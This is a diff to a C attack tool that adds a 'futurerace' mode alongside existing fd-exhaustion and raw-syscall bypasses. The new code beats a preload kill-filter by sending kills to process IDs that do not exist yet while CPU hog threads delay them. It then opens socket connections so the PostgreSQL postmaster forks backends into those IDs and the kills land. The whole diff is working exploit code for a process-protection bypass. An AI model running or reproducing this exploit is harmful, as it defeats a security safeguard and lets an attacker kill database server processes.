@@ -41,6 +41,10 @@
  *        The preload seatbelt: fill every fd slot (open /dev/null until
  *        EMFILE), then libc kill(PID, SIG).  quick_pass() cannot open
  *        /proc/PID/comm and the library lets the call through.
+ *   r1 futurerace SOCKET K
+ *        Simpler: K starving threads kill(-9) the next K pids, which do not
+ *        exist yet (quick_pass: no /proc/PID, CONTINUE); then K connections
+ *        to SOCKET make the postmaster fork backends into those pids.
  *   r1 rawkill PID SIG
  *        kill(PID, SIG) by raw system call; prints "kill: ERRNO".
  */
@@ -351,6 +355,65 @@ static int pidrace_round(const char *sockpath, int k)
 	return both;
 }
 
+/* futurerace: kill a pid that does not exist yet.  quick_pass() finds no
+ * /proc/PID and answers CONTINUE ("the kernel answers"); the caller starves;
+ * the postmaster forks a backend with that pid; the kill lands. */
+static int futurerace(const char *sockpath, int k)
+{
+	pthread_t hogs[32], ks[MAXK];
+	int nhogs = 32, socks[MAXK], pending = 0, held = 0, both = 0, ok = 0;
+
+	if (k > MAXK)
+		k = MAXK;
+	starve_cpu = (int)sysconf(_SC_NPROCESSORS_ONLN) - 1;
+	{
+		cpu_set_t set;
+		CPU_ZERO(&set);
+		for (int c = 0; c < starve_cpu; c++)
+			CPU_SET(c, &set);
+		if (starve_cpu > 0)
+			sched_setaffinity(0, sizeof(set), &set);
+	}
+	atomic_store(&hog_run, 1);
+	for (int i = 0; i < nhogs; i++)
+		pthread_create(&hogs[i], NULL, hog, NULL);
+	for (long i = 0; i < k; i++)
+		pthread_create(&ks[i], NULL, killer, (void *)i);
+	usleep(50000);
+	long cur = last_pid();
+	for (int i = 0; i < k; i++)
+		decoy[i] = (pid_t)(cur + 1 + i);	/* not there yet */
+	atomic_store(&go_kill, 1);
+	usleep(100000);	/* every kill decided: CONTINUE, then starving */
+	for (int i = 0; i < k; i++) {
+		struct sockaddr_un sa = {.sun_family = AF_UNIX};
+		snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", sockpath);
+		socks[i] = socket(AF_UNIX, SOCK_STREAM, 0);
+		if (connect(socks[i], (struct sockaddr *)&sa, sizeof(sa)) < 0)
+			perror("connect");
+	}
+	usleep(100000);	/* the postmaster forks */
+	for (int i = 0; i < k; i++) {
+		bool p = kill_ret[i] == 1, r = held_by_backend(decoy[i]);
+		pending += p;
+		held += r;
+		both += p && r;
+	}
+	printf("futurerace: pids %ld..%ld, kills pending %d, pids now postgres %d, both %d\n",
+	       cur + 1, cur + k, pending, held, both);
+	atomic_store(&hog_quit, 1);	/* the starved kills land now */
+	for (int i = 0; i < k; i++)
+		pthread_join(ks[i], NULL);
+	for (int i = 0; i < k; i++)
+		ok += kill_ret[i] == 0;
+	printf("futurerace: kills answered ok: %d of %d\n", ok, k);
+	for (int i = 0; i < nhogs; i++)
+		pthread_join(hogs[i], NULL);
+	for (int i = 0; i < k; i++)
+		close(socks[i]);
+	return 0;
+}
+
 static int pidrace(const char *sockpath, int k, int rounds)
 {
 	pthread_t hogs[32];
@@ -407,6 +470,8 @@ int main(int argc, char **argv)
 		printf("kill: %s\n", en((int)-raw_kill(atol(argv[2]), atol(argv[3]))));
 		return 0;
 	}
+	if (argc == 4 && !strcmp(argv[1], "futurerace"))
+		return futurerace(argv[2], atoi(argv[3]));
 	if ((argc == 4 || argc == 5) && !strcmp(argv[1], "pidrace"))
 		return pidrace(argv[2], atoi(argv[3]), argc == 5 ? atoi(argv[4]) : 5);
 	if (argc == 4 && !strcmp(argv[1], "ptrace")) {
